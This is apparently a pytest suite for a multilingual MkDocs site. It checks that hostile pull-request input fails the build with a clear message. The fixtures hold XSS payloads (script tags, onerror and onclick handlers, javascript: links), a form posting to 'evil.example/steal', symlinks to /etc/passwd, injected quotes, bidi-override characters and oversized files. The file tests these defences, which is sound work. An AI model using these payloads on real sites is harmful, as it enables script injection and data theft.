"""Input from a stranger's pull request or a careless editor: nothing hostile runs, nothing
private is published, nothing changes silently, nothing stalls the build (issue 12).

Each class of bad input is built for real (`mkdocs build --strict` of a fixture site) and its
exact message is asserted: the file, the line and the fix, never a traceback.
"""

from __future__ import annotations

import resource
import time

import pytest

from conftest import ROOT, FixtureSite
from data_support import LANGUAGES, edit, load, make_data_dir, problems_of
from input_guard import input_problems
from lib.page_sources import PageSourceError, decode_page, for_mkdocs, read_page_source
from link_check import find_links, html_problems, link_problem

BASE = {
    "docs/index.md": "---\ndescription: Home.\n---\n\n# Home\n\nWelcome.\n",
    "hi/index.md": "# होम\n\nस्वागत है।\n",
    "bn/index.md": "# হোম\n\nস্বাগতম।\n",
}
NAV = "  - index.md\n  - rates.md\n"


def failure(site: FixtureSite) -> list[str]:
    """The problem lines of a failed strict build (and proof that it failed cleanly)."""
    build = site.build()
    assert not build.ok, build.output
    assert "Traceback" not in build.output, build.output
    return [line for line in build.output.splitlines() if not line.startswith("INFO")]


def assert_lines(build_lines: list[str], *expected: str) -> None:
    for line in expected:
        assert any(line in got for got in build_lines), (line, build_lines)


# --- scripts and markup from front matter -----------------------------------------------------


def test_html_in_front_matter_fails_with_its_line(fixture_site):
    site = fixture_site(
        {
            **BASE,
            "docs/rates.md": (
                "---\ndescription: '\"><script>alert(1)</script>'\n"
                "title: '<img src=x onerror=alert(1)>'\n---\n\n# Rates\n\nText.\n"
            ),
        },
        nav=NAV,
    )
    assert_lines(
        failure(site),
        "docs/rates.md:2: `description` holds HTML (<s…): write plain words; the site shows "
        "this field as text, never as markup",
        "docs/rates.md:3: `title` holds HTML (<i…): write plain words",
        "2 front matter problems in pages.",
    )


def test_quotes_in_front_matter_are_kept_as_text_everywhere(fixture_site):
    text = 'A "quoted" word, an ampersand & an attribute" onmouseover="x'
    site = fixture_site(
        {**BASE, "docs/rates.md": f"---\ndescription: '{text}'\ntitle: '{text}'\n---\n\nText.\n"},
        nav=NAV,
    )
    build = site.build()
    assert build.ok, build.output
    html = build.page("rates/index.html")
    escaped = text.replace("&", "&amp;").replace('"', "&#34;")
    assert f'<meta name="description" content="{escaped}">' in html
    assert f"<title>{escaped}" in html
    assert 'onmouseover="x' not in html
    assert escaped in build.page("index.html")  # the nav of every other page too


# --- raw HTML that a CSP cannot stop ----------------------------------------------------------

RAW = """# Rates

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<FORM ACTION=https://evil.example/steal><input name=x></FORM>

<a href="#" onclick="steal()">x</a> <a href=jav&#x61;script:alert(1)>y</a>

![chart](https://tracker.example/pixel.png)

<img srcset="ok.png 1x, https://cdn.example/big.png 2x">

`<script>shown as code</script>` and <https://example.org/fine>
"""


def test_markup_a_csp_cannot_stop_fails_the_build(fixture_site):
    site = fixture_site({**BASE, "docs/rates.md": RAW}, nav=NAV)
    lines = failure(site)
    assert_lines(
        lines,
        "docs/rates.md:3: <meta> is not allowed in pages: page metadata goes in the front matter",
        "docs/rates.md:5: <form> is not allowed in pages:",
        "docs/rates.md:7: the attribute onclick= runs a script, which pages may not: remove it",
        "docs/rates.md:7: link 'javascript:alert(1)' uses javascript: which is not allowed",
        "docs/rates.md:9: 'https://tracker.example/pixel.png' would be loaded from another site "
        "whenever the page opens, and the site makes no third-party request: save the file in "
        "docs/assets/ and link to it",
        "docs/rates.md:11: 'https://cdn.example/big.png' would be loaded from another site",
    )
    assert not any("shown as code" in line for line in lines)


def test_every_url_attribute_is_read_in_any_case_and_quoting():
    text = (
        '<img SRC=https://a.example/1.png><video poster="https://a.example/2.png"></video>'
        "<object data='https://a.example/3'></object><button formaction=https://a.example/4>"
        '<a HREF="http://a.example/5">x</a>'
    )
    found = {(link.target, link.loaded) for link in find_links(text)}
    assert found == {
        ("https://a.example/1.png", True),
        ("https://a.example/2.png", True),
        ("https://a.example/3", True),
        ("https://a.example/4", False),
        ("http://a.example/5", False),
    }
    assert [line for line, _ in html_problems(text)] == [1]  # <object>
    refresh = '<META HTTP-EQUIV=refresh CONTENT="0; URL=javascript:alert(1)">'
    assert [link.target for link in find_links(refresh)] == ["javascript:alert(1)"]
    assert link_problem("https://a.example/4", "x.md", None, loaded=False) is None  # type: ignore[arg-type]


# --- symlinks never publish private files -----------------------------------------------------


@pytest.mark.parametrize("where", ["hi/secrets.md", "bn/assets/env.txt", "data/extra", "docs/x"])
def test_a_symlink_anywhere_fails_naming_it(tmp_path, where):
    root = tmp_path / "project"
    (root / where).parent.mkdir(parents=True)
    (root / where).symlink_to("/etc/passwd" if where != "data/extra" else "/proc/self")
    problems = [str(p) for p in input_problems(root, {"site_url": "https://example.org/"})]
    assert problems == [
        f"{where}: is a symbolic link: the site is built only from files in the repository; "
        "put the file itself here (git config core.symlinks false on Windows)"
    ]


def test_a_symlinked_page_stops_the_build_before_anything_is_read(fixture_site):
    site = fixture_site(BASE)
    (site.path / "hi" / "passwd.md").symlink_to("/etc/passwd")
    assert_lines(failure(site), "hi/passwd.md: is a symbolic link", "1 input problem found.")
    assert not (site.path / "site" / "hi" / "passwd").exists()


def test_a_quote_in_site_url_fails(fixture_site):
    site = fixture_site(BASE)
    build = site.build(env={"SITE_URL": 'https://example.org/"><script>alert(1)</script>'})
    assert not build.ok
    assert (
        "mkdocs.yml: site_url 'https://example.org/\"><script>alert(1)</script>/' is not a plain "
        "web address (letters, digits and . - / _ ~ % + only): check the SITE_URL environment "
        "variable"
    ) in build.output


# --- nothing changes silently -----------------------------------------------------------------


def test_crlf_and_lf_pages_give_the_same_site(fixture_site, tmp_path):
    page = "---\ndescription: Rates in India.\n---\n\n# Rates\n\nText.\n"
    lf = fixture_site({**BASE, "docs/rates.md": page}, nav=NAV).build()
    other = FixtureSite(tmp_path / "crlf", nav=NAV).pages(BASE)
    other.write("docs/rates.md", page.replace("\n", "\r\n").encode())
    crlf = other.build()
    assert lf.ok and crlf.ok, crlf.output
    assert lf.page("rates/index.html") == crlf.page("rates/index.html")
    assert "Rates in India." in crlf.page("rates/index.html")


def test_a_first_line_with_a_colon_is_text_not_metadata(tmp_path):
    path = tmp_path / "fees.md"
    path.write_text("Fiverr: 20% of every order.\n\nMore text.\n", encoding="utf-8")
    text = read_page_source(str(path), "docs/fees.md")
    assert for_mkdocs(text) == "---\n{}\n---\nFiverr: 20% of every order.\n\nMore text.\n"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b"# A\n\nok\x00bad\n", "docs/a.md:3: the character U+0000 (a control character) is not"),
        (b"# A\n\x1b[31m\n", "docs/a.md:2: the character U+001B (a control character)"),
        (
            "# A\n\nabc\u202eevil\n".encode(),
            "docs/a.md:3: the character U+202E (RIGHT-TO-LEFT OVERRIDE) is not text: delete it",
        ),
    ],
)
def test_characters_that_are_not_text_fail_with_their_line(raw, expected):
    with pytest.raises(PageSourceError) as caught:
        decode_page(raw, "docs/a.md")
    assert str(caught.value).startswith(expected)


def test_joiners_stay_they_are_part_of_indic_spelling():
    assert decode_page("र\u200d्यांक ক\u200cমেইল".encode(), "hi/a.md") == "र\u200d्यांक ক\u200cমেইল"


@pytest.mark.parametrize(
    ("pages", "expected"),
    [
        (
            {"hi/rates.md": "---\nsource_hash: abc\n---\n"},
            "hi/rates.md:1: the page has no text: translate it, or delete the file so that the "
            "English page is shown with a banner.",
        ),
        ({"hi/rates.md": "  \n\n"}, "hi/rates.md:1: the page has no text: translate it"),
        (
            {"docs/new.md": ""},
            "docs/new.md:1: the page has no text: write it, or delete the file and its entry in "
            "the nav of mkdocs.yml.",
        ),
        (
            {"hi/faqs.md": "# सवाल\n\nपाठ।\n"},
            "hi/faqs.md: there is no docs/faqs.md, so this translation has no English page and no "
            "place in the navigation: give it the file name of the English page it translates "
            "(the names in docs/), or add that English page first",
        ),
        ({"bn/দর.md": "# দর\n\nলেখা।\n"}, "bn/দর.md: there is no docs/দর.md"),
    ],
)
def test_pages_that_should_not_exist_fail(fixture_site, pages, expected):
    site = fixture_site(
        {**BASE, "docs/rates.md": "# Rates\n\nText.\n", **pages}, nav=NAV + "  - new.md\n"
    )
    assert_lines(failure(site), expected)


# --- data is read as written ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "old", "new", "expected"),
    [
        (
            "rates",
            "max: 100000",
            "max: 0100000",
            'max: "0100000" is not a plain number: write 100000: YAML reads a number with a '
            "leading 0 as octal",
        ),
        (
            "rates",
            "year: 2026",
            "year: 2026.0",
            'year: "2026.0" is not a plain number: write 2026: a whole number needs no decimal',
        ),
        (
            "rates",
            "per_usd: 91.5",
            "per_usd: 1.0e-320",
            'per_usd: "1.0e-320" is not a plain number: write digits with at most one decimal '
            "point, such as 7000 or 91.5 (no exponent, _ or +)",
        ),
        ("rates", "per_usd: 91.5", "per_usd: 0.0000001", "per_usd: must be at least 0.001"),
        ("rates", "year: 2026", "year: 2031", "year: is after next year (got 2031)"),
        ("rates", "max: 100000", "max: 0", "max: the top of the band must be more than 0 (got 0)"),
        (
            "portals",
            "https://market.example.com",
            "https://xn--mrket-7ve.com",
            'url: the host "xn--mrket-7ve.com" is written in punycode (xn--mrket-7ve…), which '
            "can imitate another site",
        ),
    ],
)
def test_data_must_be_written_plainly(tmp_path, name, old, new, expected):
    data_dir = make_data_dir(tmp_path / "data")
    edit(data_dir, name, old, new)
    problems = problems_of(data_dir)
    assert any(expected in problem for problem in problems), problems
    assert all(problem.startswith(f"data/{name}.yml:") for problem in problems), problems


def test_text_with_a_bidi_override_or_a_trailing_line_break_fails(tmp_path):
    data_dir = make_data_dir(tmp_path / "data")
    text = (data_dir / "portals.yml").read_text(encoding="utf-8")
    first_name = text.index("name: ") + len("name: ")
    end = text.index("\n", first_name)
    text = text[:first_name] + '"Up\u202ework"' + text[end:]
    (data_dir / "portals.yml").write_text(text, encoding="utf-8")
    edit(data_dir, "skills", "description: {en: Office work.,", 'description: {en: "Office\\n",')
    problems = problems_of(data_dir)
    assert any(
        "name: holds the character U+202E (RIGHT-TO-LEFT OVERRIDE), which is not text" in p
        for p in problems
    ), problems
    assert any(
        "ends with a line break: write the text on the same line as its key" in p for p in problems
    ), problems


def test_the_real_data_is_written_plainly():
    assert load(ROOT / "data", LANGUAGES).languages == LANGUAGES


# --- bounded: no single file stalls the build -------------------------------------------------


@pytest.mark.parametrize(
    ("where", "content", "expected"),
    [
        ("docs/rates.md", "[" * 32_000, "docs/rates.md:1: the page holds more than 2000 `[`"),
        (
            "docs/rates.md",
            "# Big\n\n" + "word " * 1_000_000,
            "docs/rates.md: the page is 4882 KiB, more than the 256 KiB a page may have: "
            "split it into several pages.",
        ),
        (
            "data/portals.yml",
            "portals:\n" + "  - {id: x, name: y}\n" * 250_000,
            "data/portals.yml: the file is 5126 KiB, more than the 512 KiB a data file may have",
        ),
    ],
)
def test_a_huge_or_pathological_file_fails_fast(fixture_site, where, content, expected):
    site = fixture_site({**BASE, "docs/rates.md": "# Rates\n\nText.\n"}, nav=NAV)
    site.write(where, content)
    started = time.monotonic()
    lines = failure(site)
    assert time.monotonic() - started < 60
    # the largest build process this test session has run, in KiB (Linux)
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 1024 * 1024
    assert_lines(lines, expected)


def test_the_guard_reads_no_file_it_would_refuse(tmp_path):
    root = tmp_path / "project"
    (root / "data").mkdir(parents=True)
    big = root / "data" / "rates.yml"
    with big.open("wb") as handle:
        handle.truncate(600 * 1024)
    assert [str(p) for p in input_problems(root, {})] == [
        "data/rates.yml: the file is 600 KiB, more than the 512 KiB a data file may have: keep "
        "only what the guide shows"
    ]
    assert big.stat().st_size == 600 * 1024  # measured, not read
